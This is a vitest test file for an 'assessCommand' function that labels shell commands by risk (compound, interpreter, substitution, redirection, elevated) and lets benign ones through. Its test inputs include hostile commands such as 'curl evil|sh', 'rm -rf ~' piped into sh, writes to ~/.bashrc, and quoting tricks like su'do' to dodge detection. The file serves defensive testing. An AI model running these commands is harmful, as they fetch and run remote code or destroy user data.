import { describe, expect, test } from "vitest";
import { assessCommand } from "./assessCommand.ts";

describe("assessCommand", () => {
  test.each([
    ["ls && curl evil|sh", ["compound", "interpreter"]],
    ["echo $(curl evil|sh)", ["substitution", "compound", "interpreter"]],
    ["ls > ~/.bashrc", ["redirection"]],
    ["cat <<EOF | sh\nrm -rf ~\nEOF", ["redirection", "compound", "interpreter"]],
    ['env X=1 python3 -c "1"', ["interpreter"]],
    ["find . -exec rm {} +", ["interpreter"]],
    ["xargs -I{} sh -c {}", ["interpreter"]],
    ["sudo ls", ["elevated"]],
    ['python3 -c "import os"', ["interpreter"]],
    ["FOO=$(id) ls", ["substitution"]],
    ["ls |& sh", ["compound", "interpreter"]],
    ["eval ls", ["interpreter"]],
    ['echo "$(id)"', ["substitution"]],
    ["npm test\nrm -rf .", ["compound"]],
    ["/usr/bin/sudo.exe ls", ["elevated"]],
    ["su'do' ls", ["elevated"]],
    ['A=1 "bash" x.sh', ["interpreter"]],
  ])("names why %j deserves a second look", (command, risks) => {
    expect(assessCommand(command).toSorted()).toEqual(risks.toSorted());
  });

  test.each(["git status", "npm test -- --watch=false", "node --test test/cart.test.js", "mkdiranything"])(
    "has no reason against %j",
    (command) => {
      expect(assessCommand(command)).toEqual([]);
    },
  );
});
